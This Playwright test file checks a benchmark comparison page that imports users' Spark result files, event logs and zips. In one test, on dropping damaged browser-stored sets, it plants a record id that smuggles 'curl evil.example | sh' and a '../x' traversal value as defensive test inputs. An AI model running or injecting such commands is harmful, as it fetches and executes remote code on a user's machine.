import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { COLOUR_RULES, violations } from '../../scripts/lib/axe';
import { eventLogFiles } from '../unit/support/importedFiles';
import { EKS_ROWS, importBytes, LONG_ROWS, lines } from '../unit/support/importing';
import { LOG } from '../unit/support/importingEventlog';
import { temporaryFolder } from '../unit/support/temporary';
import { openPill, SPARK, setOf } from './comparePage';
import { answer, compared, give, given, own, unzipped, writeLog } from './ownFilesPage';
import { expect, test, turnDark, visit } from './site';

const EKS = lines(...EKS_ROWS);
/** Every time doubled. */
const TWICE = lines(...EKS_ROWS.map((row) => row.replace(/(?<=,)[\d.]+/g, (time) => String(Number(time) * 2))));
/** Times of a published set as an eks summary. */
const TPCDS = lines(
  ...setOf(SPARK).rows.map(({ query, timeS, minS, maxS }) =>
    [`${query}-v4.0`, timeS, minS ?? timeS, maxS ?? timeS].join(','),
  ),
);
const TPCH = {
  Engine: 'Example',
  'Engine version': '1.0',
  'Scale factor (GB)': '100',
  'Query version': '3.0',
};
const TODAY = new Date().toISOString().slice(0, 10);

/** Two runs of 22 queries by two engines, in the format of a harness. */
const TWO_ENGINES = lines(
  '# acme-bench v3',
  'run;engine;query;wall_ms;state',
  ...['vanilla', 'comet'].flatMap((engine, factor) =>
    EKS_ROWS.flatMap((_, at) =>
      [1, 2].map((run) => `${run};${engine};Query ${at + 1};${1000 + at * run + factor * 500};ok`),
    ),
  ),
);

test('two engines in one file are asked about once and compared, even if the query version is unknown; one block contributes both', async ({
  page,
}) => {
  await visit(page, '/compare/');
  await give(page, given('mybench.csv', TWO_ENGINES));
  await expect(own(page).getByRole('checkbox')).toHaveCount(2);
  await expect(own(page).getByLabel('Suite')).toHaveValue('tpch');
  for (const [at, version] of ['3.5.8', '0.19.0'].entries())
    await own(page).getByLabel('Engine version').nth(at).fill(version);
  await answer(page, { 'Scale factor (GB)': '100' });
  await compared(page);
  await expect(page.getByRole('combobox', { name: 'Baseline' })).toHaveValue('Vanilla Spark 3.5.8');
  await expect(page.getByRole('combobox', { name: 'Candidate' })).toHaveValue('Comet 0.19.0');
  await expect(page.getByText(/No result set reports its query version/).first()).toBeVisible();
  await expect(page.getByRole('heading', { name: /^Contribute/ })).toHaveCount(1);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Zip' }).click(),
  ]);
  const files = unzipped(await download.path());
  expect([...files.keys()].filter((path) => path.endsWith('results.csv'))).toHaveLength(2);
  expect(files.get('static/data/engines/comet.json')).toContain('"version": "0.19.0"');
});

test('two files of one engine and version are two sets with the names of their files, and one is forgotten alone', async ({
  page,
}) => {
  const folder = 'tests/fixtures/cases/23-same-engine-and-version-twice';
  const answers = { ...TPCH, Engine: 'Comet', 'Engine version': '0.9.0', 'Table format': 'parquet' };
  const open = async (name: string) => {
    await give(page, given(name, readFileSync(join(folder, name))));
    await own(page).getByRole('combobox', { name: 'Unit of the times' }).selectOption('s');
    await own(page).getByRole('button', { name: 'Read the file' }).click();
    await answer(page, answers);
  };
  await visit(page, '/compare/');
  await open('main.csv');
  await expect(own(page).getByText('Loaded', { exact: true })).toHaveCount(1);
  await open('branch.csv');
  await expect(own(page).getByText('Loaded', { exact: true })).toHaveCount(2);
  await compared(page);
  const verdict = page.getByRole('region', { name: 'Verdict' });
  await expect(verdict).toContainText('Comet 0.9.0 (branch.csv)');
  await expect(verdict).toContainText('Comet 0.9.0 (main.csv)');
  await expect(verdict.locator('[data-kind="forest"]')).toContainText('1.25×');
  const url = new URL(page.url());
  expect(url.search).toContain('own_tpch-sf100-parquet-comet-0.9.0-branch');
  await page.reload();
  await expect(verdict).toContainText('Comet 0.9.0 (branch.csv)');
  page.once('dialog', (dialog) => dialog.dismiss());
  await give(page, given('branch.csv', readFileSync(join(folder, 'main.csv'))));
  await own(page).getByRole('combobox', { name: 'Unit of the times' }).selectOption('s');
  await own(page).getByRole('button', { name: 'Read the file' }).click();
  await answer(page, answers);
  await expect(own(page).getByRole('alert')).toContainText('The earlier result set is kept.');
  await own(page)
    .getByRole('button', { name: /^Remove branch/ })
    .click();
  await expect(verdict.locator('[data-kind="forest"]')).toContainText('1.25×');
  await own(page)
    .getByRole('listitem')
    .filter({ hasText: 'comet-0.9.0-branch' })
    .getByRole('button', { name: /^Forget/ })
    .click();
  await expect(own(page).getByRole('listitem')).toHaveCount(1);
  await page.reload();
  await expect(own(page).getByRole('listitem')).toContainText('own_tpch-sf100-parquet-comet-0.9.0');
});

test('a log without descriptions is compared after its executions are named in the page', async ({ page }) => {
  await visit(page, '/compare/');
  const unnamed = LOG.map((line) => line.replaceAll(/tpch q[12]/g, 'collect at run.py:30'));
  await give(page, given('app.log', unnamed.join('\n')));
  await expect(own(page).getByText(/^1: 0\.5\ss/)).toBeVisible();
  await expect(
    own(page)
      .getByText(/setJobDescription\("q1, iteration 1"\)/)
      .first(),
  ).toBeVisible();
  await answer(page, { 'Scale factor (GB)': '100' });
  await expect(own(page).getByText('is missing')).toBeVisible();
  await answer(page, { 'Queries in the order of running': 'q1, q2' });
  await expect(own(page).getByText('Loaded', { exact: true })).toBeVisible();
});

/** Opens a set of TPC-H, with which other own sets can be compared. */
async function openSpark(page: Page): Promise<void> {
  await visit(page, '/compare/');
  await give(page, given('spark.csv', EKS));
  await answer(page, { ...TPCH, Engine: 'vanilla Spark', 'Engine version': '3.5.8' });
  await expect(own(page).getByText('Loaded', { exact: true })).toBeVisible();
}

/** Opens two sets of TPC-H: times as in the file, and every time twice as long. */
async function openTwo(page: Page): Promise<void> {
  await openSpark(page);
  await give(page, given('example.csv', TWICE));
  await answer(page, TPCH);
  await compared(page);
}

test('a CSV is recognized, asked about by the rules of import, and compared; nothing is sent', async ({ page }) => {
  await visit(page, '/compare/');
  const requests: string[] = [];
  page.on('request', (request) => requests.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`));
  await give(page, given('comet-parquet-v0.17.9.csv', TPCDS));
  const row = own(page).getByRole('listitem');
  await expect(row.getByText('eks CSV (query,median,min,max; header or none)')).toBeVisible();
  await expect(own(page).getByLabel('Engine', { exact: true })).toHaveValue('Comet');
  await expect(own(page).getByLabel('Engine version')).toHaveValue('0.17.9');
  await expect(own(page).getByLabel('Suite')).toHaveValue('tpcds');
  await expect(own(page).getByLabel('Query version')).toHaveValue('4.0');
  await answer(page, { 'Scale factor (GB)': '-3', 'Table format': 'no slug!' });
  await expect(own(page).getByText('must be a number of GB greater than 0, got "-3"')).toBeVisible();
  await expect(own(page).getByLabel('Scale factor (GB)')).toBeFocused();
  await answer(page, { 'Scale factor (GB)': '3000', 'Table format': 'parquet' });
  await compared(page);
  await expect(page.getByText('Yours, not published.', { exact: true })).toBeVisible();
  await expect(page.getByRole('combobox', { name: 'Candidate' })).toHaveValue('Comet 0.17.9');
  await expect(page.getByRole('button', { name: 'Save file', exact: true })).toBeVisible();
  const fetched = /^GET http:\/\/127\.0\.0\.1:\d+\/(assets\/js\/|compare\/reader\.js|data\/)[^?]*$/;
  expect(requests.filter((request) => !fetched.test(request))).toEqual([]);
});

test('one own set that fits no published set says why once, offers to open another, and contributes nothing yet', async ({
  page,
}) => {
  await openSpark(page);
  const refusal = page.getByRole('alert').filter({ hasText: 'No result set can be compared with Vanilla Spark 3.5.8' });
  await expect(refusal).toContainText(/differs: .+ vs\. .+ \(own_tpch-sf100-parquet-spark-3\.5\.8\)\./);
  await expect(page.getByRole('heading', { name: /^Contribute/ })).toHaveCount(0);
  await refusal.getByRole('button', { name: 'Open your results of the other engine' }).click();
  await expect(own(page).getByRole('button', { name: 'Choose files' })).toBeVisible();
});

test('two own sets are compared like any other sets, marked everywhere, and survive a reload until they are deleted', async ({
  page,
}) => {
  await openTwo(page);
  await expect(page.getByRole('combobox', { name: 'Baseline' })).toHaveValue('Vanilla Spark 3.5.8');
  const verdict = page.getByRole('region', { name: 'Verdict' });
  await expect(
    verdict.getByText('Example finishes the suite in 100% more time than vanilla Spark.', { exact: true }),
  ).toBeVisible();
  await expect(verdict.locator('[data-kind="forest"]')).toContainText('0.50×');
  await expect(page).toHaveTitle(/\(yours, not published\)/);
  await page.reload();
  await compared(page);
  await own(page)
    .getByRole('button', { name: /^Forget Example/ })
    .click();
  await expect(
    page.getByText(/The result set own_tpch-sf100-parquet-example-1\.0 is not published and not in this browser/),
  ).toBeVisible();
  await page.reload();
  await expect(own(page).getByRole('listitem')).toHaveCount(1);
  await expect(own(page).getByRole('listitem')).toContainText('Vanilla Spark 3.5.8');
});

test('stored sets written by a different page of the origin are dropped with a message', async ({ page }) => {
  const text = (name: string) => readFileSync(join('static/data/result-sets', SPARK, name), 'utf8');
  const files = ['datapackage.json', 'results.csv'].map((name) => [name, text(name)]);
  const broken = files.map(([name = '', content = '']) => [
    name,
    content.replace('"suite": {', '"suite": null, "x": {'),
  ]);
  const records = [
    { id: 'own_broken', files: broken, environment: null },
    { id: 'own_x; curl evil.example | sh #', files, environment: null },
    { id: 'own_odd', files: 7, environment: { id: '../x', text: 'x' } },
  ];
  await visit(page, '/data/');
  await page.evaluate(async (all) => {
    const name = 'own-result-sets /';
    const opening = indexedDB.open(name, 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('sets', { keyPath: 'id' });
    await new Promise((resolve) => {
      opening.onsuccess = resolve;
    });
    const transaction = opening.result.transaction('sets', 'readwrite');
    for (const record of all) transaction.objectStore('sets').put(record);
    await new Promise((resolve) => {
      transaction.oncomplete = resolve;
    });
    localStorage.setItem(name, 'yes');
  }, records);
  await visit(page, '/compare/');
  for (const { id } of records) await expect(page.getByText(`“${id}” is no longer kept in this browser`)).toBeVisible();
  await visit(page, '/compare/');
  await expect(page.getByRole('region', { name: 'Verdict' })).toBeVisible();
  await expect(page.getByText('is no longer kept')).toHaveCount(0);
});

test('a saved comparison opens in a different browser with its sets and choices; a damaged file is reported', async ({
  page,
  browser,
  site,
}) => {
  await openTwo(page);
  await openPill(page, 'Queries');
  await page.getByLabel('Include only').fill('q1-q20');
  await expect(page).toHaveURL(/only=q1-q20/);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save file', exact: true }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('comparison.zip');
  const saved = readFileSync(await download.path());
  const context = await browser.newContext({ baseURL: site });
  const other = await context.newPage();
  await visit(other, '/compare/');
  await give(other, given('comparison.zip', saved));
  await compared(other);
  await expect(other.getByText('Yours, not published.', { exact: true })).toBeVisible();
  expect(new URL(other.url()).search).toBe(new URL(page.url()).search);
  await give(other, given('cut.zip', saved.subarray(0, -40)));
  await expect(own(other).getByText(/^cut\.zip is not a valid zip archive/)).toBeVisible();
  await context.close();
});

test('a contribution contains the bytes that npm run import writes, and lists the remaining ten lines', async ({
  page,
}) => {
  await openSpark(page);
  const cases = [
    { content: EKS, options: {} },
    { content: lines('query,iteration,seconds', ...LONG_ROWS), options: {} },
  ];
  for (const { content, options } of cases) {
    await give(page, given('results.csv', content));
    await answer(page, {
      ...TPCH,
      'Timed iterations': '3',
      'Result set ID': 'tpch-example',
      License: 'Apache-2.0',
    });
    await expect(page.getByRole('heading', { name: /^Contribute .*tpch-example/ })).toBeVisible();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Zip' }).click(),
    ]);
    const files = unzipped(await download.path());
    const wanted = importBytes(content, { ...options, license: 'Apache-2.0' }, TODAY).files;
    expect([...files].filter(([path]) => path.includes('/tpch-example/'))).toEqual(
      [...wanted].map(([name, text]) => [`static/data/result-sets/tpch-example/${name}`, text]),
    );
    await expect(page.locator('pre').filter({ hasText: 'git push' })).toContainText(
      'unzip -o ~/Downloads/my-results.zip',
    );
    await own(page)
      .getByRole('button', { name: /^Forget results/ })
      .click();
  }
});

for (const packing of ['plain', 'gzip', 'zstd', 'lz4', 'snappy'] as const)
  test(`an event log, ${packing}, gives the files that npm run import-eventlog writes`, async ({ page }) => {
    await openSpark(page);
    const { bytes, files } = await eventLogFiles(LOG, packing, TODAY);
    await give(page, given('log', bytes));
    await expect(own(page).getByRole('listitem').getByText('Spark event log from Spark 3.5.6')).toBeVisible();
    await answer(page, { 'Scale factor (GB)': '100', 'Query version': '3.0', 'Result set ID': 'made' });
    await own(page)
      .getByText(/^Spark properties: 1 published, 0 left out/)
      .click();
    await expect(own(page).getByText('published: spark.plugins = org.apache.spark.CometPlugin')).toBeVisible();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Zip' }).click(),
    ]);
    const others = [...unzipped(await download.path())].filter(([path]) => !path.includes('/tpch-sf100-parquet-spark'));
    expect(others).toEqual(files);
  });

test('an event log shows which kinds of its operators each release runs natively', async ({ page }) => {
  await visit(page, '/coverage/');
  await page.getByRole('link', { name: 'Open your own event log' }).click();
  await own(page).locator('input[type=file]').last().setInputFiles('tests/fixtures/eventLogs/spark-4.0.1');
  await own(page)
    .getByText(/^Operators that Comet runs natively/)
    .click();
  await expect(own(page)).toContainText('12 of 15 operators in your 3 queries are of kinds that Comet 1.0.0 runs');
  await expect(own(page)).toContainText('This is a statement about plans and not about time.');
  const kinds = page.getByRole('table', { name: 'Kinds of operators' });
  await expect(kinds.getByRole('row', { name: /^Range 3 not in the test plans/ })).toBeVisible();
  await expect(kinds.getByRole('row', { name: /^Sort 3 all 121, since 1\.0\.0/ })).toBeVisible();
  expect(await violations(page)).toEqual([]);
});

test('an event log gives the plan of a trial and the files that run it', async ({ page }) => {
  await visit(page, '/compare/');
  await own(page).locator('input[type=file]').last().setInputFiles('tests/fixtures/eventLogs/spark-4.0.1');
  await own(page)
    .getByText(/^Plan a trial on your queries/)
    .click();
  const sentence = own(page).getByText(/^3 of your 3 queries are 100% of the time; 6 applications of each engine/);
  await expect(sentence).toContainText('on 1 node;');
  await own(page).getByLabel('Difference to see (%)').fill('30');
  await expect(own(page).getByText(/of the time; 3 applications of each engine/)).toBeVisible();
  await own(page).getByLabel('Engine to try').selectOption({ label: 'Gluten + Velox' });
  await own(page).getByLabel('Version of Spark').fill('2.0');
  await expect(own(page).getByRole('alert')).toContainText(/none are documented for Spark 2\.0\. Choose Spark \d/);
  await own(page).getByLabel('Version of Spark').fill('3.5');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    own(page).getByRole('button', { name: 'Zip' }).click(),
  ]);
  const files = unzipped(await download.path());
  expect(files.get('run.sh')).toContain('export TRIAL_ITERATIONS=2');
  expect(files.get('candidate.properties')).toContain('spark.plugins org.apache.gluten.GlutenPlugin');
  await own(page).getByLabel('Share of time (%)').fill('120');
  await expect(own(page).getByRole('alert')).toHaveText(
    'Share of time (%) must be a number above 0 and at most 100, got "120".',
  );
  expect(await violations(page)).toEqual([]);
});

test('a folder of a result set is opened as it is', async ({ page }) => {
  await visit(page, '/compare/');
  await own(page).locator('input[type=file]').last().setInputFiles(`static/data/result-sets/${SPARK}`);
  await compared(page);
  const row = own(page).getByRole('listitem');
  await expect(row.getByText('Result set in this site’s format')).toBeVisible();
  await expect(page.getByRole('combobox', { name: 'Candidate' })).toHaveValue('Vanilla Spark 3.5.8');
});

test('a file that is not a result set is reported with a fix', async ({ page }) => {
  await visit(page, '/compare/');
  await give(page, given('notes.txt', 'just some words\n'));
  await expect(
    own(page)
      .getByRole('listitem')
      .getByText(/unknown format/),
  ).toBeVisible();
  await give(page, given('cut.log', LOG.join('\n').slice(0, -20)));
  await expect(
    own(page)
      .getByRole('listitem')
      .getByText(/the last line is cut off/),
  ).toBeVisible();
  await own(page).getByRole('button', { name: 'Use the readable part' }).click();
  await expect(own(page).getByRole('heading', { name: 'Missing information' })).toBeVisible();
});

/**
 * Cancels reading when the progress bar appears, and returns the bar's maximum in bytes. Runs in the page, because a
 * click from outside may come too late.
 */
function cancelWhenRead(): Promise<string> {
  return new Promise((done) => {
    const look = (_: unknown, watcher: MutationObserver) => {
      const max = document.querySelector('progress[max]')?.getAttribute('max');
      const cancel = [...document.querySelectorAll('button')].find(({ textContent }) =>
        /^Cancel/.test(textContent ?? ''),
      );
      if (!max || !cancel) return;
      watcher.disconnect();
      cancel.click();
      done(max);
    };
    new MutationObserver(look).observe(document.body, { subtree: true, childList: true, attributes: true });
  });
}

test('a log of 200 MB is read with a progress bar, and can be cancelled', async ({ page }) => {
  const path = join(temporaryFolder(), 'long.log');
  writeLog(path, 200);
  await visit(page, '/compare/');
  const cancelled = page.evaluate(cancelWhenRead);
  await give(page, path);
  expect(await cancelled).toMatch(/^2\d{8}$/);
  await expect(own(page).getByRole('listitem')).toHaveCount(0);
  await give(page, path);
  await expect(
    own(page)
      .getByRole('listitem')
      .getByText(/^22 queries of TPC-H, 22 iterations/),
  ).toBeVisible({ timeout: 60_000 });
});

for (const [what, width] of [
  ['on a desktop, nor in the dark', 1280],
  ['on a phone', 412],
] as const)
  test(`questions and own sets have no axe violation and no overflow ${what}`, async ({ page }) => {
    await page.setViewportSize({ width, height: 900 });
    await openTwo(page);
    await give(page, given('third.csv', EKS));
    await expect(own(page).getByRole('heading', { name: 'Missing information' })).toBeVisible();
    await own(page).getByRole('button', { name: 'Compare', exact: true }).click();
    await expect(own(page).locator('[aria-invalid="true"]').first()).toBeVisible();
    expect(await violations(page)).toEqual([]);
    const overflow = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect(overflow).toBe(0);
    if (width < 1280) return;
    await turnDark(page);
    expect(await violations(page, { rules: COLOUR_RULES })).toEqual([]);
  });

test('everything works by keyboard', async ({ page }) => {
  await visit(page, '/compare/');
  await page.getByRole('button', { name: 'Open your own results' }).focus();
  await page.keyboard.press('Enter');
  const chooser = page.waitForEvent('filechooser');
  await own(page).getByRole('button', { name: 'Choose files' }).focus();
  await page.keyboard.press('Enter');
  await (await chooser).setFiles(given('comet-v1.0.0-sf3000.csv', TPCDS));
  await own(page).getByLabel('Engine', { exact: true }).focus();
  await page.keyboard.press('Enter');
  await compared(page);
});
